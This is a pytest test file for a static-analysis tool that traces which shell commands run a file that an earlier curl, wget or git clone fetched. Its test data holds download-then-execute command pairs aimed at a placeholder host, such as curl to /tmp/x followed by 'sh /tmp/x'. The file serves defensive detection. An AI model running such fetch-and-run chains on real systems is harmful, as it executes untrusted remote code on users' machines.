"""Commands that belong together by the name of a file."""

from dataclasses import replace

import pytest

from pratique.analysis.chains.downloads import fetched_by, plain_path, requested_on, saved_downloads
from pratique.analysis.facts import Capability, Use
from pratique.analysis.languages.shell import parse_command

ADDRESS = "https://far.invalid/run"


@pytest.mark.parametrize(
    ("saving", "starting"),
    [
        (f"curl -s {ADDRESS} -o /tmp/x", "sh /tmp/x"),
        (f"curl -so /tmp/x {ADDRESS}", "/tmp/x"),
        (f"wget -q -O cache.bin {ADDRESS}", "python3 -u ./cache.bin"),
        (f"wget {ADDRESS}", "node run"),
        (f"curl {ADDRESS} -o __dirname/lib/x.js", "node ./lib/x.js"),
        (f"git clone --depth 1 {ADDRESS}.git", "sh run/a/setup.sh"),
        (f"git clone {ADDRESS}.git /tmp/x", "/tmp/x/setup"),
    ],
)
def test_what_a_command_saved_another_starts(saving: str, starting: str) -> None:
    commands = (*parse_command(starting), *parse_command(saving))
    saved = saved_downloads(commands)

    assert commands[1] is fetched_by(commands[0], saved)
    assert fetched_by(commands[1], saved) is None


@pytest.mark.parametrize("starting", ["sh /tmp/y", "cat /tmp/x", "tar xf /tmp/x", "sh"])
def test_other_commands_start_nothing_that_was_saved(starting: str) -> None:
    saved = saved_downloads(parse_command(f"curl {ADDRESS} -o /tmp/x"))

    assert [None] == [fetched_by(command, saved) for command in parse_command(starting)]


@pytest.mark.parametrize("cloning", ["git clone ../x /tmp/x", "git pull", "git"])
def test_only_a_repository_of_another_machine_is_cloned(cloning: str) -> None:
    assert {} == saved_downloads(parse_command(cloning))


def test_what_is_started_in_the_folder_of_a_clone_is_cloned() -> None:
    commands = parse_command(f"git clone {ADDRESS}.git && cd run && sh setup.sh && make && ./go")
    saved = saved_downloads(commands)
    started = {command.program for command in commands if fetched_by(command, saved) is not None}

    assert {"sh", "./go"} == started


def test_a_path_is_the_same_however_its_own_folder_is_written() -> None:
    assert {"a/b"} == {plain_path(path) for path in ("a/b", "./a/b", "__dirname/a/b", "a\\b")}


def test_lines_of_requests_alone_are_told() -> None:
    asks = Use(Capability.NETWORK, "requests.get", 1, at_load=False)
    receives = Use(Capability.NETWORK, "socket.socket.recv", 2, at_load=False)
    reads = Use(Capability.FILE_READ, "open", 1, at_load=False)

    assert frozenset({1}) == requested_on([asks, reads, receives])
    assert frozenset() == requested_on([asks, replace(receives, line=1)])
    assert frozenset() == requested_on([replace(receives, line=1), asks])
    saves = Use(Capability.FILE_WRITE, "urllib.request.urlretrieve", 4, at_load=False)
    assert frozenset({4}) == requested_on([saves])
